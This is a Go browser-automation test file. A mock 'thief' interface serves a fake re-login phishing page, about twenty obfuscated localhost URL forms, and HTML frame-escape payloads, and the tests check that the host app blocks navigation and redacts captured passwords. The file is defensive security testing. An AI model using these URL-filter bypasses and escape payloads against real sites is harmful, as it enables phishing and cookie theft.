package main

import (
	"fmt"
	"io"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
)

// thief is an interface that waits for a browser to come by, and for its cookie.
type thief struct {
	*program
	id string

	mu     sync.Mutex
	caught []string // what browsers asked for, with whether a cookie came along
	called string   // what it was asked to do last
}

func startThief(t *testing.T, v *victim, name string) *thief {
	t.Helper()
	th := &thief{program: newProgram(t, name)}
	th.watch = func(r *http.Request) {
		if strings.Contains(r.UserAgent(), "Mozilla") || r.Header.Get("Cookie") != "" {
			th.mu.Lock()
			defer th.mu.Unlock()
			th.caught = append(th.caught, fmt.Sprintf("%s, cookie %t", r.URL.RequestURI(), strings.Contains(r.Header.Get("Cookie"), "chalie_session")))
		}
	}
	th.listen("127.0.0.1:0")
	body := fmt.Sprintf(`{"name":%q,"port":%d,"scopes":{"signals":{"x":"to say so"}}}`, name, th.port)
	th.id = read[struct {
		ID string `json:"interface_id"`
	}](t, v.wants(http.StatusCreated, http.MethodPost, "/register", body, "Host: "+local(v.address))).ID
	return th
}

func (th *thief) seen() []string {
	th.mu.Lock()
	defer th.mu.Unlock()
	return append([]string{}, th.caught...)
}

// answers is how it does what it is asked to.
func (th *thief) answers(text string) {
	th.on("/execute", func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			th.t.Error(err)
		}
		th.mu.Lock()
		th.called += string(body)
		th.mu.Unlock()
		saying(text)(w, r)
	})
}

// sent is all that it was asked to do.
func (th *thief) sent() string {
	th.mu.Lock()
	defer th.mu.Unlock()
	return th.called
}

// approved lets it in.
func (th *thief) approved(v *victim) {
	th.t.Helper()
	v.wants(http.StatusOK, http.MethodPut, "socket:/api/apps/"+th.id+"/scopes", `{"approved_scopes":{"signals":{"x":true}}}`)
	v.wants(http.StatusOK, http.MethodPost, "socket:/api/apps/"+th.id+"/refresh", "")
}

// ways are addresses of the thief, as they may be written.
func (th *thief) ways(path string) []string {
	var out []string
	for _, way := range []string{
		"http://127.0.0.1:%d", "HTTP://localhost:%d", "http://lamp.localhost:%d", "http://2130706433:%d", "http://0x7f.1:%d", "http://0177.0.0.1:%d", "http://127.1:%d", "http://１２７.0.0.1:%d",
		"http://[::ffff:127.0.0.1]:%d", "http://0.0.0.0:%d", "http://localhost.:%d", "http://x@127.0.0.1:%d", `http:\\127.0.0.1:%d`, "//127.0.0.1:%d", `/\127.0.0.1:%d`, "/.//127.0.0.1:%d", "/\t/127.0.0.1:%d",
		"ht\ntp://127.0.0.1:%d", "http:/127.0.0.1:%d", "http://%%31%%32%%37.0.0.1:%d",
	} {
		out = append(out, fmt.Sprintf(way, th.port)+path)
	}
	return out
}

// page are blocks of every type that leads anywhere, to all of its addresses.
func (th *thief) page(t *testing.T) []any {
	blocks := []any{map[string]any{"type": "header", "content": "Your session has ended. Log in again.", "level": 1}}
	for i, url := range th.ways("/steal") {
		link := map[string]any{"type": "link", "url": url, "text": fmt.Sprintf("Manual %d", i)}
		inside := []any{link}
		if !strings.ContainsAny(url, "\t\n") { // which end an address in Markdown
			inside = append(inside, map[string]any{"type": "text", "format": "markdown", "content": fmt.Sprintf("[press](%s) <%s> %s ![see](%s)", url, url, url, url)})
		}
		blocks = append(blocks, link, map[string]any{"type": "image", "url": url, "alt": "a lamp"},
			map[string]any{"type": "actions", "buttons": []any{map[string]any{"label": fmt.Sprintf("Open %d", i), "openUrl": url, "execute": "count", "payload": map[string]any{}}}})
		switch i % 6 {
		case 0:
			blocks = append(blocks, map[string]any{"type": "section", "title": "s", "collapsible": true, "blocks": inside})
		case 1:
			blocks = append(blocks, map[string]any{"type": "columns", "columns": []any{map[string]any{"blocks": inside}}})
		case 2:
			blocks = append(blocks, map[string]any{"type": "carousel", "slides": []any{map[string]any{"blocks": inside}}})
		case 3:
			blocks = append(blocks, map[string]any{"type": "tabs", "tabs": []any{map[string]any{"label": "t", "blocks": inside}}})
		case 4:
			blocks = append(blocks, map[string]any{"type": "container", "id": fmt.Sprint("c", i), "blocks": inside, "poll": map[string]any{"capability": "count", "interval": 1000}})
		case 5:
			blocks = append(blocks, map[string]any{"type": "odd", "href": url, "src": url, "blocks": inside, "fallback": url})
		}
	}
	return append(blocks, map[string]any{"type": "form", "id": "login", "blocks": []any{
		map[string]any{"type": "text", "content": "Password:"}, map[string]any{"type": "input", "name": "field1", "inputType": "password"},
		map[string]any{"type": "actions", "buttons": []any{map[string]any{"label": "Log in", "execute": "count", "collect": "login", "style": "primary"}}}}})
}

// pressesAll presses whatever may be pressed in a part of the page, as a person does:
// with the mouse, alone and with keys that open another window.
func (r *reader) pressesAll(within string) (pressed int) {
	r.t.Helper()
	count, err := chromedp.Run(r.ctx, chromedp.Evaluate[int](fmt.Sprintf(`document.querySelectorAll(%q + " :is(a, button, summary, img, [role=tab], code:nth-of-type(1))").length`, within)))
	if err != nil {
		r.t.Fatal(err)
	}
	for i := range count {
		const look = `(within, i) => {
			const e = document.querySelectorAll(within + " :is(a, button, summary, img, [role=tab], code:nth-of-type(1))")[i];
			if (!e || !e.checkVisibility()) return [0, 0];
			e.scrollIntoView({ block: "center" });
			const at = e.getBoundingClientRect();
			return [at.x + Math.min(at.width / 2, 40), at.y + at.height / 2];
		}`
		at, err := chromedp.Run(r.ctx, chromedp.Evaluate[[]float64](fmt.Sprintf("(%s)(%q, %d)", look, within, i)))
		if err != nil {
			r.t.Fatal(err)
		}
		if at[0] == 0 {
			continue
		}
		pressed++
		r.pressesAt(at[0], at[1])
	}
	return pressed
}

// pressesAt presses with the mouse at some heights, in every way that may open something.
func (r *reader) pressesAt(x float64, heights ...float64) {
	r.t.Helper()
	for _, y := range heights {
		for _, how := range []input.DispatchMouseEventParams{{Button: "left"}, {Button: "left", Modifiers: 2}, {Button: "middle"}, {Button: "left", Modifiers: 8}} {
			how.X, how.Y, how.ClickCount = x, y, 1
			for _, step := range []input.DispatchMouseEventType{input.DispatchMouseEventTypeMousePressed, input.DispatchMouseEventTypeMouseReleased} {
				how.Type = step
				if _, err := chromedp.Call(r.ctx, input.DispatchMouseEvent, how); err != nil {
					r.t.Fatal(err)
				}
			}
		}
	}
}

// windows are the pages that are open in the whole browser at an address.
func (r *reader) windows(at string) (out []string) {
	r.t.Helper()
	all, err := chromedp.Call(r.ctx, target.GetTargets, target.GetTargetsParams{})
	if err != nil {
		r.t.Fatal(err)
	}
	for _, info := range all.TargetInfos {
		if strings.Contains(info.URL, at) {
			out = append(out, info.URL)
		}
	}
	return out
}

// stays fails the test when a browser came to the thief, or is on its way there.
func (r *reader) stays(th *thief, address string) {
	r.t.Helper()
	known, err := chromedp.Call(r.ctx, page.GetNavigationHistory, cdp.Empty{})
	if err != nil {
		r.t.Fatal(err)
	}
	if at := known.Entries[known.CurrentIndex].URL; at != address {
		r.t.Errorf("the page is %s, want %s", at, address)
	}
	if open := r.windows(fmt.Sprint(":", th.port)); len(open) > 0 {
		r.t.Errorf("windows are open at %q", open)
	}
	if caught := th.seen(); len(caught) > 0 {
		r.t.Errorf("a browser came for %q", caught)
	}
}

// comesTo goes to the thief as a person would who enters its address. That all before
// is over, and that a cookie would have been seen, is known then.
func (r *reader) comesTo(th *thief) {
	r.t.Helper()
	r.does(chromedp.Navigate(fmt.Sprintf("http://127.0.0.1:%d/entered", th.port)))
	caught := th.seen()
	if len(caught) == 0 || caught[0] != "/entered, cookie true" {
		r.t.Errorf("a browser came for %q; that it is noticed should be seen first", caught)
	}
}

// TestGuestPages presses everything on the page of an interface that is after the
// session, before it was let in and afterwards.
func TestGuestPages(t *testing.T) {
	r := newReader(t)
	v := startVictim(t, filepath.Join(t.TempDir(), "data"))
	v.ready()
	r.setsUp(v)
	th := startThief(t, v, "Lamp")
	th.on("/", saying(asJSON(t, map[string]any{"blocks": th.page(t)})))
	th.answers(asJSON(t, map[string]any{"openUrl": th.ways("/steal")[0], "blocks": th.page(t)[:4]}))
	th.on("/steal", saying(`{}`))
	th.on("/entered", saying(`{}`))
	address := v.address + "/interfaces/" + th.id

	r.does(chromedp.Navigate(address))
	r.sees(".guest.pending", "From Lamp, which hasn’t been let in")
	r.sees("#page", "[A button] Log in")
	r.checks("guest-pending")
	r.shows("#page :is(a, button:not([role=tab]), input, select, form, img)", 0)
	r.pressesAll("#page")
	r.stays(th, address)
	if asked := th.times("/execute"); asked > 0 {
		t.Errorf("it was asked %d times before it was let in", asked)
	}

	th.approved(v)
	r.does(chromedp.Navigate(address))
	r.sees(".guest", "From Lamp")
	r.sees("#page", "not a link: it leads to this machine")
	r.sees("#page", "A program asks for a secret here.")
	if links := r.inPage(`() => [...document.querySelectorAll("#page a")].map((a) => a.outerHTML).join(" ")`); links != "" {
		t.Errorf("links lead to %s", links)
	}
	r.shows("#page input[type=password]", 0)
	r.checks("guest-approved")
	r.does(chromedp.Evaluate[chromedp.Void](`document.querySelector('#page [name^="field1"]').value = "hunter2-hunter2"; undefined`))
	r.presses("#page [data-form] button")
	r.sees("#page", "would open")
	th.answers(asJSON(t, map[string]any{"text": "It is done.", "openUrl": th.ways("/steal")[0]}))
	r.does(chromedp.Navigate(address))
	r.sees("#page", "Manual 0")
	if pressed := r.pressesAll("#page"); pressed < 20 { // a button for each address; what polls shows other things by now
		t.Errorf("only %d things could be pressed", pressed)
	}
	r.stays(th, address)
	if !strings.Contains(th.sent(), `"field1":"hunter2-hunter2"`) {
		t.Errorf("what was typed came as %s", th.sent())
	}
	if kept := v.wants(http.StatusOK, http.MethodGet, "socket:/api/log?type=tool.invoked", ""); strings.Contains(kept, "hunter2") || !strings.Contains(kept, "redacted") {
		t.Errorf("what was typed is kept: %s", kept)
	}
	r.heard.take()
	r.comesTo(th)
	r.heard.take()
	v.stop()
}

// escapes is a page of HTML that tries every way out of its frame: when it is pressed,
// and by itself.
func (th *thief) escapes() string {
	to := func(how string) string { return fmt.Sprintf("http://127.0.0.1:%d/%s", th.port, how) }
	return `<!doctype html><html><head><title>Lamp</title><meta http-equiv="refresh" content="0;url=` + to("refresh") + `"><base target="_blank"></head>
		<body onclick="open('` + to("opened") + `')"><h1><a href="` + to("blank") + `">blank</a></h1><h1><a target="_top" href="` + to("top") + `">top</a></h1><h1><a target="_self" href="https://localhost:` + fmt.Sprint(th.port) + `/self">self</a></h1>
		<form action="` + to("form") + `"><button>send</button></form><iframe src="` + to("frame") + `"></iframe><img src="` + to("image") + `"><object data="` + to("object") + `"></object>
		<a href="` + to("wide") + `" style="position: fixed; inset: 0; z-index: 9">everywhere</a>
		<script>open("` + to("early") + `"); top.location = location = "` + to("leave") + `"</script>`
}

// TestGuestPageOfHTML opens the page of an interface that is HTML, by its own address.
func TestGuestPageOfHTML(t *testing.T) {
	r := newReader(t)
	v := startVictim(t, filepath.Join(t.TempDir(), "data"))
	v.ready()
	r.setsUp(v)
	th := startThief(t, v, "Lamp")
	th.on("/", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(th.escapes()))
	})
	th.on("/entered", saying(`{}`))
	address := v.address + "/gw/" + th.id + "/render"
	r.does(chromedp.Navigate(address))
	r.sees("body", "Its page is HTML")
	r.stays(th, address)

	th.approved(v)
	r.does(chromedp.Navigate(address)) // a page that runs nothing can't be asked for more than a picture
	r.keeps("guest-html")
	r.pressesAt(40, 60, 90, 120, 150, 180, 210, 240, 300, 400)
	r.stays(th, address)
	r.heard.take()
	r.comesTo(th)
	r.heard.take()
	v.stop()
}
